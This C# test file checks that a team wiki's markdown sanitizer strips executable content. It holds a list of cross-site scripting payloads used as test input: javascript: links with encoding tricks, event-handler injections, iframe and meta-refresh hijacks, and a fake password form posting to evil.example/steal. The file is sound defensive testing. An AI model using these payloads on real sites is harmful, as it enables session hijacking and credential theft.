using AngleSharp.Dom;
using AngleSharp.Html.Parser;
using Codex.Modules.TeamCodex.Rendering;

namespace Codex.Modules.TeamCodex.Tests;

/// <summary>
/// Section texts are written by any member and shown to everyone: whatever they contain, the
/// rendered HTML carries no script, no event handler, no style and no dangerous URL.
/// </summary>
public sealed class CodexMarkdownTests
{
    private static readonly HashSet<string> AllowedElements = new(StringComparer.OrdinalIgnoreCase)
    {
        "p", "br", "hr", "h3", "h4", "h5", "h6", "strong", "em", "del", "ins", "mark", "sub", "sup", "code", "pre",
        "blockquote", "ul", "ol", "li", "a", "table", "thead", "tbody", "tr", "th", "td", "dl", "dt", "dd",
    };

    private static readonly HashSet<string> AllowedAttributes = new(StringComparer.OrdinalIgnoreCase)
    {
        "href", "title", "start", "scope", "colspan", "rowspan", "rel",
    };

    private static readonly string[] SafeSchemes = ["http", "https", "mailto"];

    public static TheoryData<string> Attacks() =>
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
        "<<script>script>alert(1)<</script>/script>",
        "<img src=x onerror=alert(1)>",
        "<p onclick=\"alert(1)\">Klick mich</p>",
        "<svg onload=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<body onload=alert(1)>",
        "<a href=\"javascript:alert(1)\" onclick=\"alert(1)\">Link</a>",
        "[Link](javascript:alert(1))",
        "[Link](JaVaScRiPt:alert(1))",
        "[Link](  javascript:alert(1))",
        "[Link](<javascript:alert(1)>)",
        "[Link](javascript&#58;alert(1))",
        "[Link](&#106;avascript:alert(1))",
        "[Link](&#x6A;&#x61;vascript:alert(1))",
        "[Link](java\tscript:alert(1))",
        "[Link](vbscript:msgbox(1))",
        "[Link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[Link][ref]\n\n[ref]: javascript:alert(1)",
        "<javascript:alert(1)>",
        "![Bild](javascript:alert(1))",
        "![Bild](https://example.org/x.png\" onerror=\"alert(1))",
        "[Link](https://example.org \"Titel\\\" onclick=\\\"alert(1)\")",
        "<div style=\"background:url(javascript:alert(1))\">Text</div>",
        "<span style=\"position:fixed;top:0\">Überlagerung</span>",
        "<style>body { display: none }</style>",
        "<iframe src=\"https://evil.example\"></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<form action=\"https://evil.example/steal\"><input name=\"passwort\" type=\"password\"><button>Senden</button></form>",
        "<object data=\"https://evil.example/x.swf\"></object>",
        "<embed src=\"https://evil.example/x.swf\">",
        "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
        "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">",
        "<base href=\"https://evil.example/\">",
        "| Spalte |\n|---|\n| <script>alert(1)</script> |\n| <img src=x onerror=alert(1)> |",
        "> Zitat <iframe src=\"https://evil.example\"></iframe>",
        "- Punkt <a href=\"javascript:alert(1)\">Link</a>",
        "*betont*{onclick=alert(1)}",
        "`<script>alert(1)</script>`",
        "```\n<script>alert(1)</script>\n```",
        "<!-- <script>alert(1)</script> -->",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    ];

    [Theory]
    [MemberData(nameof(Attacks))]
    public void Nothing_executable_gets_through(string markdown)
    {
        var html = CodexMarkdown.ToSafeHtml(markdown);

        AssertSafe(html);
    }

    [Theory]
    [MemberData(nameof(Attacks))]
    public void Nothing_executable_gets_through_when_wrapped_in_ordinary_text(string attack)
    {
        var html = CodexMarkdown.ToSafeHtml($"## Übergaben\n\nWir sprechen uns ab. {attack} Danach **gilt** es.\n\n{attack}\n");

        AssertSafe(html);
    }

    [Fact]
    public void Raw_html_is_shown_as_text_not_dropped_silently()
    {
        var html = CodexMarkdown.ToSafeHtml("Bitte nie <script>alert(1)</script> schreiben.");

        var document = Parse(html);
        Assert.Empty(document.QuerySelectorAll("script"));
        Assert.Contains("<script>alert(1)</script>", document.Body!.TextContent, StringComparison.Ordinal);
    }

    [Fact]
    public void Ordinary_markdown_keeps_its_structure()
    {
        var html = CodexMarkdown.ToSafeHtml(
            "# Dienstplan\n\nWir planen **gemeinsam** und *fair*.\n\n- erstens\n- zweitens\n\n" +
            "| Tag | Wer |\n|---|---|\n| Montag | Anna |\n\n[Intranet](https://intranet.example/plan) · <mailto:team@sozialwerk-rheinaue.example>");

        var document = Parse(html);
        // Headings start below the section title (h2), keeping the page outline intact.
        Assert.Equal("Dienstplan", document.QuerySelector("h3")?.TextContent);
        Assert.Empty(document.QuerySelectorAll("h1, h2"));
        Assert.Equal("gemeinsam", document.QuerySelector("strong")?.TextContent);
        Assert.Equal(2, document.QuerySelectorAll("li").Length);
        Assert.Equal(["Tag", "Wer"], document.QuerySelectorAll("th").Select(th => th.TextContent));
        var links = document.QuerySelectorAll("a").ToList();
        Assert.Equal(["https://intranet.example/plan", "mailto:team@sozialwerk-rheinaue.example"], links.Select(a => a.GetAttribute("href")));
        Assert.All(links, a => Assert.Equal("noopener noreferrer nofollow", a.GetAttribute("rel")));
        AssertSafe(html);
    }

    [Fact]
    public void Deep_headings_stay_within_h6()
    {
        var document = Parse(CodexMarkdown.ToSafeHtml("#### Vier\n\n###### Sechs"));

        Assert.Equal(["H6", "H6"], document.QuerySelectorAll("h3, h4, h5, h6").Select(h => h.TagName));
    }

    [Theory]
    [InlineData("<p>ok</p><script>alert(1)</script>")]
    [InlineData("<p onclick=\"alert(1)\">x</p>")]
    [InlineData("<p style=\"color:red\">x</p>")]
    [InlineData("<a href=\"java&#09;script:alert(1)\">x</a>")]
    [InlineData("<a href=\" JAVASCRIPT:alert(1)\">x</a>")]
    [InlineData("<iframe></iframe>")]
    [InlineData("<form></form>")]
    public void The_check_itself_rejects_unsafe_html(string html) =>
        Assert.ThrowsAny<Xunit.Sdk.XunitException>(() => AssertSafe(html));

    private static void AssertSafe(string html)
    {
        var document = Parse(html);
        foreach (var element in document.Body!.Descendants<IElement>())
        {
            Assert.True(AllowedElements.Contains(element.LocalName), $"<{element.LocalName}> is not allowed in: {html}");
            foreach (var attribute in element.Attributes)
            {
                Assert.True(AllowedAttributes.Contains(attribute.Name), $"Attribute {attribute.Name} is not allowed in: {html}");
            }

            if (element.GetAttribute("href") is { } href)
            {
                AssertSafeUrl(href, html);
            }
        }
    }

    /// <summary>A URL is safe when it is relative or has an allowed scheme, read the way a browser reads it.</summary>
    private static void AssertSafeUrl(string href, string html)
    {
        // Browsers ignore leading control characters and spaces and drop tabs and line breaks anywhere in a URL.
        var url = new string(href.TrimStart('\0', ' ', '\x01', '\x1f').Where(c => c is not ('\t' or '\n' or '\r')).ToArray());
        var colon = url.IndexOf(':', StringComparison.Ordinal);
        var firstSeparator = url.IndexOfAny(['/', '?', '#']);
        if (colon > 0 && (firstSeparator < 0 || colon < firstSeparator) && url[..colon].All(c => char.IsAsciiLetterOrDigit(c) || c is '+' or '-' or '.'))
        {
            Assert.True(SafeSchemes.Contains(url[..colon].ToLowerInvariant()), $"Unsafe link {href} in: {html}");
        }
    }

    private static IDocument Parse(string html) => new HtmlParser().ParseDocument($"<!DOCTYPE html><html><body>{html}</body></html>");
}
